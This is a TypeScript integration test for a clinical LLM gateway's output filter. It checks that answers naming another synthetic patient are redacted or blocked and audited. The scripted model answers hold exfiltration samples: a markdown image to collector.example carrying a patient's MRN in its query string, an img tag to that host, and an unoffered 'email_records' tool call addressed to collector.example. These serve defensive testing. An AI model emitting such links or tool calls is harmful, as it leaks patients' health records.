// SPDX-License-Identifier: Apache-2.0
/**
 * The output filter through the whole gateway, with the official OpenAI and Anthropic SDKs as
 * clients and a scripted model upstream: other Synthea patients' identifiers in answers are
 * redacted (or block the answer), with an incident, an `output.leak` record and a closing record
 * that says so — and never a value in any of them; links to hosts not allowed and tool calls not
 * offered are removed; tokens of the conversation are re-identified after the filter. Then a few
 * hundred scripted answers, plain and streamed: none is delivered with another patient's
 * identifier.
 */
import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { trustingFetch } from '../support/gateway.js';
import { startOutputGateway, type OutputGateway } from '../support/output-gateway.js';
import { buildScenarios, plantedFound, question } from '../support/output-scenarios.js';
import { loadSyntheaPatients, type SyntheaPatient } from '../support/synthea-patients.js';

const patients = loadSyntheaPatients();
const byFamily = (family: string): SyntheaPatient => {
  const found = patients.find((p) => p.family === family);
  if (!found) throw new Error(`no Synthea patient ${family}`);
  return found;
};
const wolf = byFamily('Wolf');
const dare = byFamily('Dare');

let gw: OutputGateway;
let blocking: OutputGateway;
let openai: OpenAI;
let anthropic: Anthropic;

const headersFor = (p: { readonly reference: string }): Record<string, string> => ({ 'x-phigate-patient': p.reference, 'x-phigate-purpose': 'TREAT' });
const patientsMap = new Map(patients.map((p) => [p.reference, p.known]));

beforeAll(async () => {
  gw = await startOutputGateway({ patients: patientsMap, output: { allowedLinkHosts: ['medlineplus.gov'] }, cloud: true });
  blocking = await startOutputGateway({ patients: patientsMap, output: { blockOnLeak: true } });
  const fetch = trustingFetch(gw.dispatcher);
  openai = new OpenAI({ baseURL: gw.baseUrl, apiKey: gw.clinicianKey, fetch, maxRetries: 0 });
  anthropic = new Anthropic({ baseURL: gw.baseUrl.replace(/\/v1$/, ''), apiKey: gw.clinicianKey, fetch, maxRetries: 0 });
});

afterAll(async () => {
  await gw?.close();
  await blocking?.close();
});

async function records(target: OutputGateway, requestId: string): Promise<{ type: string; stage: string; body: string; event: Record<string, unknown> }[]> {
  const rows = await target.gateway.store.db.selectFrom('audit_events').select(['event_type', 'stage', 'body']).where('request_id', '=', requestId).orderBy('seq').execute();
  return rows.map((row) => ({ type: row.event_type, stage: row.stage, body: row.body, event: JSON.parse(row.body) as Record<string, unknown> }));
}

const leakyAnswer = `${wolf.given} ${wolf.family} is stable. Unlike ${dare.given} ${dare.family} (MRN ${dare.mrn}, phone ${dare.phone}), she needs no change.`;
const redactedAnswer = `${wolf.given} ${wolf.family} is stable. Unlike [REDACTED] (MRN [REDACTED], phone [REDACTED]), she needs no change.`;
const values = [dare.family, dare.mrn, dare.phone, wolf.family, wolf.mrn];

describe('cross-patient leaks through the gateway', () => {
  it('redacts another patient’s identifiers in a plain answer, opens an incident and says so in the audit log, without values', async () => {
    gw.model.script({ text: leakyAnswer });
    const { data, response } = await openai.chat.completions
      .create({ model: 'clinical-llm', messages: [{ role: 'user', content: question }] }, { headers: headersFor(wolf) })
      .withResponse();
    expect(data.choices[0]?.message.content).toBe(redactedAnswer);
    const requestId = response.headers.get('x-request-id') ?? '';
    const events = await records(gw, requestId);
    expect(events.map((e) => `${e.type}/${e.stage}`)).toEqual(['chat.completion/disclosure', 'output.leak/completed', 'chat.completion/completed']);
    const leak = events[1]?.event as { detail: Record<string, unknown>; patientHash: string };
    expect(leak.detail).toMatchObject({ action: 'redacted', leaks: 3, leak_NAME: 1, leak_MRN: 1, leak_PHONE: 1 });
    const closing = events[2]?.event as { detail: Record<string, unknown>; outcome: string };
    expect(closing.outcome).toBe('success');
    expect(closing.detail).toMatchObject({ outputFilter: 'redacted', outputLeaks: 3, outputIncidentId: leak.detail.incidentId });
    for (const e of events) for (const value of values) expect(e.body).not.toContain(value);

    const incidents = await gw.gateway.store.db.selectFrom('output_incidents').selectAll().where('request_id', '=', requestId).execute();
    expect(incidents).toEqual([expect.objectContaining({ id: leak.detail.incidentId, action: 'redacted', status: 'open', leak_count: 3, patient_hash: leak.patientHash, streamed: 0 })]);
    expect(JSON.parse(incidents[0]?.categories ?? '{}')).toEqual({ NAME: 1, MRN: 1, PHONE: 1 });
  });

  it('gives a streamed answer exactly the plain result and records it the same way', async () => {
    gw.model.script({ text: leakyAnswer, chunkChars: 3 });
    const { data: stream, response } = await openai.chat.completions
      .create({ model: 'clinical-llm', stream: true, stream_options: { include_usage: true }, messages: [{ role: 'user', content: question }] }, { headers: headersFor(wolf) })
      .withResponse();
    let text = '';
    let finish: string | null = null;
    let usage = false;
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? '';
      finish = chunk.choices[0]?.finish_reason ?? finish;
      if (chunk.usage) usage = true;
    }
    expect(text).toBe(redactedAnswer);
    expect(finish).toBe('stop');
    expect(usage).toBe(true);
    const events = await records(gw, response.headers.get('x-request-id') ?? '');
    expect(events.map((e) => e.type)).toEqual(['chat.completion', 'output.leak', 'chat.completion']);
    expect((events[2]?.event as { detail: Record<string, unknown> }).detail).toMatchObject({ outputFilter: 'redacted', outputLeaks: 3 });
  });

  it('filters the Anthropic surface the same way, plain and streamed', async () => {
    gw.model.script({ text: leakyAnswer });
    const message = await anthropic.messages.create({ model: 'clinical-llm', max_tokens: 200, messages: [{ role: 'user', content: question }] }, { headers: headersFor(wolf) });
    expect(message.content).toEqual([expect.objectContaining({ type: 'text', text: redactedAnswer })]);
    gw.model.script({ text: leakyAnswer, chunkChars: 5 });
    const stream = anthropic.messages.stream({ model: 'clinical-llm', max_tokens: 200, messages: [{ role: 'user', content: question }] }, { headers: headersFor(wolf) });
    const final = await stream.finalMessage();
    expect(final.content).toEqual([expect.objectContaining({ type: 'text', text: redactedAnswer })]);
  });

  it('lets the patient’s own identifiers through in every style, and marks the closing record as passed', async () => {
    const own = `Wolf, Michele (MRN ${wolf.mrn.toUpperCase()}), ${wolf.street}, ${wolf.city}; call (${wolf.phone.slice(0, 3)}) ${wolf.phone.slice(4)}; ${wolf.email.toUpperCase()}; SSN ${wolf.ssn}. See [MedlinePlus](https://medlineplus.gov/a.html).`;
    gw.model.script({ text: own });
    const { data, response } = await openai.chat.completions.create({ model: 'clinical-llm', messages: [{ role: 'user', content: question }] }, { headers: headersFor(wolf) }).withResponse();
    expect(data.choices[0]?.message.content).toBe(own);
    const events = await records(gw, response.headers.get('x-request-id') ?? '');
    expect(events.map((e) => e.type)).toEqual(['chat.completion', 'chat.completion']);
    expect((events[1]?.event as { detail: Record<string, unknown> }).detail).toMatchObject({ outputFilter: 'passed', outputLeaks: 0 });
  });

  it('neutralises images and links to hosts not allowed, keeping allowed ones', async () => {
    gw.model.script({ text: `Stable. ![x](https://collector.example/p.png?d=${encodeURIComponent(dare.mrn)}) See [guide](https://medlineplus.gov/a.html) and <img src="https://collector.example/t.gif">.` });
    const { data } = await openai.chat.completions.create({ model: 'clinical-llm', messages: [{ role: 'user', content: question }] }, { headers: headersFor(wolf) }).withResponse();
    expect(data.choices[0]?.message.content).toBe('Stable. x See [guide](https://medlineplus.gov/a.html) and [link removed].');
  });

  it('removes tool calls the request did not offer and audits it', async () => {
    const tools = [{ type: 'function' as const, function: { name: 'lookup_labs', parameters: { type: 'object', properties: {} } } }];
    gw.model.script({ toolCalls: [{ id: 'call_1', name: 'email_records', arguments: '{"to":"x@collector.example"}' }, { id: 'call_2', name: 'lookup_labs', arguments: '{"q":"HbA1c"}' }] });
    const { data, response } = await openai.chat.completions.create({ model: 'clinical-llm', messages: [{ role: 'user', content: question }], tools }, { headers: headersFor(wolf) }).withResponse();
    const calls = data.choices[0]?.message.tool_calls ?? [];
    expect(calls.map((c) => (c.type === 'function' ? c.function.name : ''))).toEqual(['lookup_labs']);
    expect(data.choices[0]?.finish_reason).toBe('tool_calls');
    const events = await records(gw, response.headers.get('x-request-id') ?? '');
    expect(events.map((e) => e.type)).toEqual(['chat.completion', 'output.tool_call_removed', 'chat.completion']);
    expect(events[1]?.body).not.toContain('email_records');

    gw.model.script({ toolCalls: [{ id: 'call_3', name: 'email_records', arguments: '{}' }] });
    const stream = await openai.chat.completions.create({ model: 'clinical-llm', stream: true, messages: [{ role: 'user', content: question }] }, { headers: headersFor(wolf) });
    let finish: string | null = null;
    let sawCall = false;
    for await (const chunk of stream) {
      finish = chunk.choices[0]?.finish_reason ?? finish;
      if (chunk.choices[0]?.delta.tool_calls) sawCall = true;
    }
    expect(sawCall).toBe(false);
    expect(finish).toBe('content_filter');
  });

  it('judges a de-identified answer as the model wrote it, then re-identifies the conversation’s tokens', async () => {
    // The payload leaves de-identified: the caller's name of a relative becomes a token the model can use.
    gw.model.script({ text: `[NAME_1] asked about ${dare.given} ${dare.family}'s results.` });
    const { data } = await openai.chat.completions
      .create({ model: 'cloud-llm', messages: [{ role: 'user', content: 'My daughter Jane Roe asks about the plan.' }] }, { headers: headersFor(wolf) })
      .withResponse();
    const sent = JSON.stringify(gw.model.requests.at(-1)?.summary.texts);
    expect(sent).not.toContain('Jane Roe');
    expect(data.choices[0]?.message.content).toBe("Jane Roe asked about [REDACTED]'s results.");
  });
});

describe('blocking', () => {
  const client = (): OpenAI => new OpenAI({ baseURL: blocking.baseUrl, apiKey: blocking.clinicianKey, fetch: trustingFetch(blocking.dispatcher), maxRetries: 0 });

  it('refuses a plain answer with output_blocked and records a blocked incident', async () => {
    blocking.model.script({ text: leakyAnswer });
    const err = await client()
      .chat.completions.create({ model: 'clinical-llm', messages: [{ role: 'user', content: question }] }, { headers: headersFor(wolf) })
      .catch((e: unknown) => e);
    expect(err).toBeInstanceOf(OpenAI.APIError);
    const apiError = err as InstanceType<typeof OpenAI.APIError>;
    expect(apiError.status).toBe(422);
    expect((apiError.error as { code?: string }).code).toBe('output_blocked');
    expect(JSON.stringify(apiError.error)).not.toContain(dare.family);
    const requestId = apiError.headers?.get('x-request-id') ?? '';
    const events = await records(blocking, requestId);
    expect(events.map((e) => `${e.type}/${e.stage}/${String(e.event.outcome)}`)).toEqual(['chat.completion/disclosure/pending', 'output.leak/completed/denied', 'chat.completion/completed/failure']);
    expect(events[2]?.event).toMatchObject({ errorCode: 'output_blocked', detail: { outputFilter: 'blocked', outputLeaks: 3 } });
    const incidents = await blocking.gateway.store.db.selectFrom('output_incidents').select(['action']).where('request_id', '=', requestId).execute();
    expect(incidents).toEqual([{ action: 'blocked' }]);
  });

  it('ends a stream with content_filter before the part with the leak', async () => {
    blocking.model.script({ text: `${wolf.given} ${wolf.family} is stable.\n${dare.given} ${dare.family} is another patient.\nMore text.`, chunkChars: 4 });
    const stream = await client().chat.completions.create({ model: 'clinical-llm', stream: true, messages: [{ role: 'user', content: question }] }, { headers: headersFor(wolf) });
    let text = '';
    let finish: string | null = null;
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? '';
      finish = chunk.choices[0]?.finish_reason ?? finish;
    }
    expect(text).toBe(`${wolf.given} ${wolf.family} is stable.\n`);
    expect(finish).toBe('content_filter');
  });
});

describe('scripted answers, plain and streamed', () => {
  it('delivers none of a few hundred answers with another patient’s identifier, and changes almost no same-patient answer', async () => {
    const scenarios = buildScenarios(patients, 160, 11);
    let changed = 0;
    const delivered: string[] = [];
    for (const scenario of scenarios) {
      gw.model.script({ text: scenario.answer, chunkChars: 1 + (scenario.id % 7) });
      const body = { model: 'clinical-llm', messages: [{ role: 'system' as const, content: scenario.prompt }, { role: 'user' as const, content: question }] };
      let text = '';
      if (scenario.stream) {
        const stream = await openai.chat.completions.create({ ...body, stream: true }, { headers: headersFor(scenario.patient) });
        for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
      } else {
        text = (await openai.chat.completions.create(body, { headers: headersFor(scenario.patient) })).choices[0]?.message.content ?? '';
      }
      if (scenario.set === 'same-patient' && text !== scenario.answer) changed++;
      if (scenario.set === 'adversarial') {
        expect(plantedFound(text, scenario.planted), `scenario ${scenario.id}`).toEqual([]);
        if (scenario.exfilHost) expect(text).not.toContain(scenario.exfilHost);
        if (text !== scenario.answer) delivered.push(text);
      }
    }
    // the filter acted on every adversarial answer, and left (almost) every same-patient answer alone
    expect(delivered.length).toBe(160);
    expect(changed).toBeLessThanOrEqual(1);
  });
});
